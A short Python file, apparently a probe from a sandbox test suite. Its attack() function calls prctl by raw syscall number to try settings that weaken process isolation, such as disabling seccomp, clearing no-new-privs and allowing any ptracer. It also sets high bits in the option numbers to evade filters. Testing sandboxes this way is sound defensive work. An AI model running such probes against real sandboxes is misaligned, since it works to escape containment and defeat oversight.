"""Wants one of the 60 things that prctl can change, with the values that weaken the walls."""

import ctypes

DUMPABLE, KEEPCAPS, SECCOMP, SUBREAPER, PTRACER = 4, 8, 22, 36, 0x59616D61


def attack():
    libc = ctypes.CDLL(None)
    wishes = [(DUMPABLE, 1), (KEEPCAPS, 1), (SUBREAPER, 1), (PTRACER, 2**64 - 1), (1, 0)]
    wishes += [(SECCOMP, 0), (38, 0), (26, 1), (33, 1), (41, 1), (53, 0)]
    found = []
    for option, value in wishes:
        for high in (0, 2**32):
            number = ctypes.c_long(option + high)
            if libc.syscall(157, number, ctypes.c_ulong(value), 0, 0, 0) == 0:
                found.append((option, value))
    return found
